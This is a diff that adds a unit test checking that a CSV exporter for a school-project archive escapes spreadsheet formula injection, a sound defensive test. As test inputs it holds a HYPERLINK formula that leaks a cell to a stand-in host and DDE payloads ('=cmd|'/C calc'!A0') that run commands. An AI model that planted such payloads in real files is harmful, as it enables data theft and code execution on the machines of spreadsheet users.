@@ -327,6 +327,28 @@ describe('open data', () => {
       assert.equal(record?.classes, "Ε'");
     });
 
+    test('writes a field that a spreadsheet would run as a formula as text: a single quote first, quoted (OWASP)', () => {
+      for (const start of ['=', '+', '-', '@', '\t', '\r']) {
+        assert.equal(csvField(`${start}1+1`), `"'${start}1+1"`, JSON.stringify(start));
+      }
+      assert.equal(csvField('=HYPERLINK("http://example.org/?leak="&A1, "Click")'), `"'=HYPERLINK(""http://example.org/?leak=""&A1, ""Click"")"`);
+      // Only at the start: a minus or an equals sign inside a title is plain text.
+      assert.equal(csvField('Land - Sea = Life'), 'Land - Sea = Life');
+
+      const id = '2015-2016/the-scratch-project';
+      const titles = { el: '=cmd|\'/C calc\'!A0', en: '@SUM(1+1)*cmd|\'/C calc\'!A0' };
+      const edited = withProject(archive, id, (project) => ({
+        ...project,
+        versions: { el: { ...project.versions.el!, title: titles.el }, en: { ...project.versions.en!, title: titles.en } },
+      }));
+      const csv = archiveCsv(edited);
+      assert.ok(csv.includes(`,"'=cmd|'/C calc'!A0","'@SUM(1+1)*cmd|'/C calc'!A0",`), csv);
+      // Still RFC 4180: each cell holds the title, marked as text.
+      const record = csvRecords(csv).find((row) => row.project_id === id);
+      assert.equal(record?.title_el, `'${titles.el}`);
+      assert.equal(record?.title_en, `'${titles.en}`);
+    });
+
     test('leaves the title of a language that is not translated yet empty', () => {
       const id = '2013-2014/traditional-cultures';
       const untranslated = withProject(archive, id, (project) => ({ ...project, versions: { el: project.versions.el } }));
